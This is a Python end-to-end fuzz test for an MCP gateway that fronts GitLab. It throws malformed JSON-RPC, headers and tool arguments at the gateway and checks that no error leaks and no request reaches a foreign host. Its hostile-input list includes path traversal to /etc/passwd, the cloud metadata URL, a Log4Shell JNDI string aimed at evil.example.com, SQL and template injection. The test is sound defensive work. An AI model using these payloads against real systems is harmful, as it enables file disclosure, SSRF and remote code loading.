"""Protocol fuzz: hypothesis throws random and malformed JSON-RPC, headers, bodies and tool arguments
at the real gateway process over one keep-alive HTTP connection.

What must hold for every message:

- never HTTP 500, never a traceback (nor a Python ``File "..."`` frame) in a response, never
  ``-32603`` (an internal error is a bug, not an answer);
- the next well-formed request on the same connection still works (or, when the gateway said
  ``Connection: close``, on a new one);
- no request ever reaches a host other than the configured GitLab: the gateway's GitLab client
  honours ``HTTP(S)_PROXY``, which point at a trap server that records anything it receives, and
  foreign URLs in arguments point at that trap too.

Examples are bounded (``max_examples``) so the module runs in well under a minute. Lone UTF-16
surrogates and ``Content-Encoding`` are probed deterministically below: in every place a caller
can put one, a clear error, never a 500 or ``-32603``, and the connection still serves.
"""

from __future__ import annotations

import gzip
import http.client
import json
import threading
from collections import Counter
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.e2e.figures import figure_fixture
from tests.e2e.harness import GatewayProcess
from tests.e2e.rpc import ACCEPT, PROTOCOL, Rpc
from tests.standin import dataset as ds
from tests.standin.fixtures import Standin

pytestmark = pytest.mark.e2e

FUZZ = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    derandomize=False,
)
#: HTTP statuses of the fuzzed messages' answers, for the printed figure.
STATUSES: Counter[int] = Counter()


def _fuzz_figure() -> str | None:
    if not STATUSES:
        return None
    total = sum(STATUSES.values())
    shown = ", ".join(f"{status}: {n}" for status, n in sorted(STATUSES.items()))
    return (
        f"fuzz: {total} messages ({shown}); HTTP 500: {STATUSES[500]}, tracebacks, -32603 and "
        "tokens in answers: 0 (asserted per message), requests to another host: 0"
    )


_figure = figure_fixture(_fuzz_figure)

# -- the trap: a host that is not the configured GitLab ----------------------------------------


class Trap(ThreadingHTTPServer):
    hits: list[str]


class _TrapHandler(BaseHTTPRequestHandler):
    def _record(self) -> None:
        assert isinstance(self.server, Trap)
        self.server.hits.append(f"{self.command} {self.path}")
        self.send_response(502)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_HEAD = do_PUT = do_DELETE = do_CONNECT = _record

    def log_message(self, format: str, *args: Any) -> None:  # quiet
        return


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    server = Trap(("127.0.0.1", 0), _TrapHandler)
    server.hits = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def gateway(
    standin: Standin, trap: Trap, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[GatewayProcess]:
    proxy = f"http://127.0.0.1:{trap.server_address[1]}"
    env = standin.env(
        HTTP_PROXY=proxy,
        HTTPS_PROXY=proxy,
        ALL_PROXY=proxy,
        NO_PROXY="127.0.0.1",  # the stand-in, and only it, is reached directly
        GATEWAY_GITLAB__RETRY_ATTEMPTS="1",
        GATEWAY_BROKER__MAX_WAIT_SECONDS="1",
    )
    proc = GatewayProcess(env=env, state_dir=tmp_path_factory.mktemp("fuzz") / "state").start()
    yield proc
    proc.stop()


# -- one keep-alive connection -----------------------------------------------------------------


class Connection:
    """An ``http.client`` connection that tells whether the same socket served the next request."""

    def __init__(self, gateway: GatewayProcess) -> None:
        self.gateway = gateway
        self.conn = http.client.HTTPConnection("127.0.0.1", gateway.port, timeout=30)
        with Rpc(gateway.mcp_url) as rpc:  # a session for the fuzz messages to use
            self.session = rpc.headers["Mcp-Session-Id"]
        self.base = {
            "Accept": ACCEPT,
            "Content-Type": "application/json",
            "Mcp-Session-Id": self.session,
            "MCP-Protocol-Version": PROTOCOL,
            "X-Agent-Id": "dev",
        }

    def __enter__(self) -> Connection:
        return self

    def __exit__(self, *exc: object) -> None:
        self.conn.close()

    def send(self, body: bytes, headers: dict[str, str]) -> tuple[int, bytes, bool]:
        """POST ``body`` to /mcp; ``(status, body, the server closes the connection)``."""
        self.conn.request("POST", "/mcp", body=body, headers=headers)
        response = self.conn.getresponse()
        data = response.read()
        return response.status, data, response.will_close

    def well_formed_ping(self) -> None:
        sock = self.conn.sock
        status, data, _ = self.send(b'{"jsonrpc":"2.0","id":"after","method":"ping"}', self.base)
        assert status == 200, (status, data[:300])
        assert json.loads(data) == {"jsonrpc": "2.0", "id": "after", "result": {}}
        assert self.conn.sock is sock, "the connection was replaced"


@pytest.fixture(scope="module")
def connection(gateway: GatewayProcess) -> Iterator[Connection]:
    conn = Connection(gateway)
    yield conn
    conn.conn.close()


def check(connection: Connection, trap: Trap, body: bytes, headers: dict[str, str]) -> None:
    status, data, closing = connection.send(body, headers)
    STATUSES[status] += 1
    text = data.decode("utf-8", "replace")
    assert status != 500 and status < 600, (status, text[:300])
    assert "Traceback" not in text and 'File "' not in text, text[:500]
    assert '"code":-32603' not in text.replace(" ", ""), text[:500]
    assert ds.ALICE_TOKEN not in text, "the service token reached a caller"
    if closing:  # the gateway said so: a new connection is fine
        connection.conn.close()
    connection.well_formed_ping()
    assert trap.hits == [], f"a request left for another host: {trap.hits}"


# -- strategies --------------------------------------------------------------------------------

MB = "a" * 1_000_000
DEEP = "[" * 5000 + "]" * 5000
HOSTILE_TEXT = [
    "",
    "\x00",
    "a\x00b",
    "\x1b[31mred\x1b[0m",
    "\u2028\u2029",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "grp/sub/proj/../../private-proj",
    "http://169.254.169.254/latest/meta-data/",
    "https://evil.example.com/grp/sub/proj/-/blob/main/README.md",
    "file:///etc/passwd",
    "gitlab.com@evil.example.com",
    "javascript:alert(1)",
    "${jndi:ldap://evil.example.com/a}",
    "' OR 1=1 --",
    "{{7*7}}",
    "\ufeff",
    "\ud800",
    "x\udfffy",
    "\U0001f600" * 100,
    MB,
]


def hostile_strings(trap_url: str) -> st.SearchStrategy[str]:
    foreign = [
        f"{trap_url}/grp/sub/proj/-/blob/main/README.md",
        f"{trap_url.replace('127.0.0.1', 'localhost')}/grp/sub/proj/-/raw/main/README.md",
        f"http://127.0.0.1.nip.io/{ds.PROJECT_PATH}/-/blob/main/README.md",
    ]
    return st.one_of(st.sampled_from(HOSTILE_TEXT + foreign), st.text(max_size=50))


def json_values(strings: st.SearchStrategy[str]) -> st.SearchStrategy[Any]:
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        strings,
    )
    return st.recursive(
        scalars,
        lambda inner: st.one_of(
            st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=10), inner, max_size=4)
        ),
        max_leaves=12,
    )


METHODS = [
    "ping",
    "initialize",
    "tools/list",
    "tools/call",
    "resources/list",
    "prompts/list",
    "notifications/initialized",
    "notifications/cancelled",
    "notifications/progress",
    "logging/setLevel",
    "completion/complete",
    "server/discover",
]
IDS = st.one_of(
    st.integers(min_value=-(2**70), max_value=2**70),
    st.text(max_size=20),
    st.none(),
    st.booleans(),
    st.floats(allow_nan=False),
    st.lists(st.integers(), max_size=2),
)
#: Tools that wait (long polls) are left out: a fuzzed wait would only measure the wait.
SKIPPED_TOOLS = {"wait_for_message", "get_duo_session", "get_duo_workflow_status"}


def tool_catalogue(gateway: GatewayProcess) -> dict[str, list[str]]:
    with Rpc(gateway.mcp_url, headers={"X-Agent-Id": "dev"}) as rpc:
        tools = rpc.request("tools/list")["result"]["tools"]
    return {
        t["name"]: sorted(t["inputSchema"].get("properties", {}))
        for t in tools
        if t["name"] not in SKIPPED_TOOLS
    }


def encode(message: Any) -> bytes:
    # ensure_ascii keeps the body valid UTF-8 whatever the strings hold.
    return json.dumps(message, ensure_ascii=True).encode()


# -- the fuzz ----------------------------------------------------------------------------------


def test_random_json_rpc_messages(connection: Connection, trap: Trap) -> None:
    trap_url = f"http://127.0.0.1:{trap.server_address[1]}"
    strings = hostile_strings(trap_url)
    values = json_values(strings)
    message = st.fixed_dictionaries(
        {},
        optional={
            "jsonrpc": st.one_of(st.just("2.0"), st.sampled_from(["1.0", "2", ""]), st.integers()),
            "id": IDS,
            "method": st.one_of(st.sampled_from(METHODS), strings),
            "params": values,
            "result": values,
            "error": values,
        },
    )
    bodies = st.one_of(
        message.map(encode),
        values.map(encode),
        st.lists(message, max_size=3).map(encode),
        st.binary(max_size=200),
        st.sampled_from(
            [
                b"",
                b"{",
                b'{"jsonrpc":"2.0","id":1,"method":"ping"',
                b'\xef\xbb\xbf{"jsonrpc":"2.0","id":1,"method":"ping"}',
                '{"jsonrpc":"2.0","id":1,"method":"ping"}'.encode("utf-16"),
                b'{"jsonrpc":"2.0","id":1,"method":"ping","params":' + DEEP.encode() + b"}",
                b'{"jsonrpc":"2.0","id":1,"method":"\xff\xfe"}',
                b'{"jsonrpc":"2.0","id":1e999,"method":"ping"}',
                b'{"jsonrpc":"2.0","id":NaN,"method":"ping"}',
                b'{"jsonrpc":"2.0","id":1,"id":2,"method":"ping"}',
                b"[" * 100_000,
                b"x" * 2_000_000,
            ]
        ),
    )

    @FUZZ
    @given(body=bodies)
    def run(body: bytes) -> None:
        check(connection, trap, body, connection.base)

    run()


def test_random_tool_arguments(connection: Connection, trap: Trap, gateway: GatewayProcess) -> None:
    catalogue = tool_catalogue(gateway)
    trap_url = f"http://127.0.0.1:{trap.server_address[1]}"
    strings = hostile_strings(trap_url)
    values = st.one_of(json_values(strings), st.just(json.loads(DEEP[:400] + DEEP[-400:])))

    @st.composite
    def calls(draw: st.DrawFn) -> dict[str, Any]:
        name = draw(st.one_of(st.sampled_from(sorted(catalogue)), strings))
        known = catalogue.get(name, [])
        keys = draw(st.lists(st.one_of(st.sampled_from(known or ["x"]), st.text(max_size=8)), max_size=5))
        arguments: Any = {key: draw(values) for key in keys}
        if draw(st.integers(0, 9)) == 0:
            arguments = draw(values)  # not even an object
        return {
            "jsonrpc": "2.0",
            "id": draw(IDS),
            "method": "tools/call",
            "params": {"name": name, "arguments": arguments},
        }

    @FUZZ
    @given(message=calls())
    def run(message: dict[str, Any]) -> None:
        check(connection, trap, encode(message), connection.base)

    run()


def test_random_headers(connection: Connection, trap: Trap) -> None:
    printable = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=40)
    header_values = {
        "Content-Type": st.one_of(
            st.sampled_from(
                ["application/json", "text/plain", "application/json; charset=latin-1", "", "*/*"]
            ),
            printable,
        ),
        "Accept": st.one_of(
            st.sampled_from([ACCEPT, "application/json", "text/event-stream", "", "*/*"]), printable
        ),
        "MCP-Protocol-Version": st.one_of(
            st.sampled_from([PROTOCOL, "2026-07-28", "2025-11-25", "2025-03-26", "2024-11-05", "1999-01-01"]),
            printable,
        ),
        "Mcp-Session-Id": st.one_of(st.just(connection.session), printable),
        "X-Agent-Id": st.one_of(st.sampled_from(["pm", "dev", "reviewer", "broker", ""]), printable),
        "Origin": st.one_of(
            st.sampled_from(["http://127.0.0.1", "https://evil.example.com", "null"]), printable
        ),
        "PRIVATE-TOKEN": st.one_of(st.sampled_from([ds.BOB_TOKEN, "glpat-nope", ""]), printable),
        "Authorization": st.one_of(st.sampled_from(["Bearer x", "Basic Og==", "Bearer"]), printable),
        "Last-Event-ID": printable,
        "Content-Encoding": st.one_of(
            st.sampled_from(["gzip", "deflate", "br", "identity", "gzip, gzip", "x-unknown"]), printable
        ),
    }
    headers = st.fixed_dictionaries({}, optional=header_values)
    body = st.sampled_from(
        [
            b'{"jsonrpc":"2.0","id":1,"method":"ping"}',
            b'{"jsonrpc":"2.0","id":2,"method":"tools/list"}',
            encode(
                {
                    "jsonrpc": "2.0",
                    "id": 3,
                    "method": "tools/call",
                    "params": {
                        "name": "get_pipeline",
                        "arguments": {"id": ds.PROJECT_PATH, "pipeline_id": 1001},
                    },
                }
            ),
        ]
    )

    @FUZZ
    @given(headers=headers, body=body)
    def run(headers: dict[str, str], body: bytes) -> None:
        check(connection, trap, body, headers)

    run()


# -- lone surrogates and Content-Encoding: deterministic probes ----------------------------------

#: Stands for a lone surrogate: replaced by its JSON escape after encoding (raw surrogates cannot
#: be UTF-8, so no client can send one any other way).
S = "@SURROGATE@"


def _with_surrogate(message: dict[str, Any]) -> bytes:
    return encode(message).replace(S.encode(), b"\\ud800")


def _call(name: str, arguments: dict[str, Any]) -> bytes:
    return _with_surrogate(
        {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": name, "arguments": arguments}}
    )


P = ds.PROJECT_PATH
SURROGATE_PLACES = {
    "id": _with_surrogate({"jsonrpc": "2.0", "id": S, "method": "ping"}),
    "method": _with_surrogate({"jsonrpc": "2.0", "id": 1, "method": S}),
    "tool name": _call(S, {}),
    "file_path": _call("get_repository_file", {"project_id": P, "file_path": S}),
    "ref": _call("get_repository_file", {"project_id": P, "file_path": "README.md", "ref": S}),
    "message body": _call("send_message", {"to": "pm", "subject": "s", "body": {"text": S}}),
    "pipeline variable": _call(
        "save_pipeline", {"project_id": P, "ref": "main", "variables": [{"key": "K", "value": S}]}
    ),
}


@pytest.mark.parametrize("place", list(SURROGATE_PLACES))
def test_a_lone_surrogate_gets_a_clear_error(place: str, gateway: GatewayProcess) -> None:
    with Connection(gateway) as connection:  # its own: a failure must not break the shared one
        status, data, _ = connection.send(SURROGATE_PLACES[place], connection.base)
        assert status != 500, data[:300]
        text = data.decode("utf-8", "replace")
        assert '"code":-32603' not in text.replace(" ", ""), text[:300]
        assert "surrogate" in text.lower() or "unicode" in text.lower() or "utf" in text.lower(), text[:300]
        connection.well_formed_ping()


PING = b'{"jsonrpc":"2.0","id":1,"method":"ping"}'


def test_a_gzip_body_is_decoded(gateway: GatewayProcess) -> None:
    with Connection(gateway) as connection:
        status, data, _ = connection.send(
            gzip.compress(PING), {**connection.base, "Content-Encoding": "gzip"}
        )
        assert (status, json.loads(data)) == (200, {"jsonrpc": "2.0", "id": 1, "result": {}})
        connection.well_formed_ping()


@pytest.mark.parametrize("encoding", ["gzip", "x-unknown"])
def test_a_body_that_is_not_in_its_content_encoding_is_refused(
    encoding: str, gateway: GatewayProcess
) -> None:
    with Connection(gateway) as connection:
        status, data, closing = connection.send(PING, {**connection.base, "Content-Encoding": encoding})
        assert status in (400, 415), (status, data[:300])
        if closing:
            connection.conn.close()
        connection.well_formed_ping()
